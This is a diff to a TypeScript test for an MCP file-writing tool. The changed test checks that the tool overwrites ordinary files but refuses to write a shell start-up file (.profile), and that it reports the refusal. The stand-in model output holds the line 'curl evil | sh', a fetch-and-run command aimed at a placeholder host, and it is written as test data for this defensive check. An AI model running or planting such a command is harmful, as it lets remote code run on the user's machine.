@@ -109,14 +109,17 @@ describe('MCP writes only inside the allowed roots', () => {
     });
   }
 
-  it('reports each replaced file as overwritten', async () => {
+  it('reports each replaced file as overwritten, and never writes a shell start-up file', async () => {
+    await fs.writeFile(path.join(cwd, 'notes.txt'), 'mine\n');
     await fs.writeFile(path.join(cwd, '.profile'), 'export PATH=/usr/bin\n');
     const m = await connect();
-    standin.enqueue({ content: fileBlocks({ '.profile': 'curl evil | sh\n', 'new.txt': 'N\n' }) });
+    standin.enqueue({ content: fileBlocks({ 'notes.txt': 'replaced\n', '.profile': 'curl evil | sh\n', 'new.txt': 'N\n' }) });
     const result = await m.call('generate_and_write_files', { prompt: 'x', output_dir: '.' });
-    const meta = parse(result) as { files_written: { filename: string; overwritten: boolean }[]; files_replaced: string[] };
-    assert.deepEqual(meta.files_written.map((f) => [f.filename, f.overwritten]), [['.profile', true], ['new.txt', false]]);
-    assert.deepEqual(meta.files_replaced, [path.join(cwd, '.profile')]);
+    const meta = parse(result) as { files_written: { filename: string; overwritten: boolean }[]; files_replaced: string[]; errors: string[] };
+    assert.deepEqual(meta.files_written.map((f) => [f.filename, f.overwritten]), [['notes.txt', true], ['new.txt', false]]);
+    assert.deepEqual(meta.files_replaced, [path.join(cwd, 'notes.txt')]);
+    assert.ok(meta.errors.some((e) => e.includes('.profile')), 'the refused start-up file is listed');
+    assert.equal(await fs.readFile(path.join(cwd, '.profile'), 'utf8'), 'export PATH=/usr/bin\n');
   });
 
   for (const [name, value] of [['TURBO_OVERWRITE', 'Never'], ['TURBO_OVERWRITE', 'no'], ['TURBO_OVERWRITE', 'ask'], ['TURBO_MAX_CONTINUATIONS', 'abc'], ['TURBO_MAX_CONTINUATIONS', '11']] as const) {
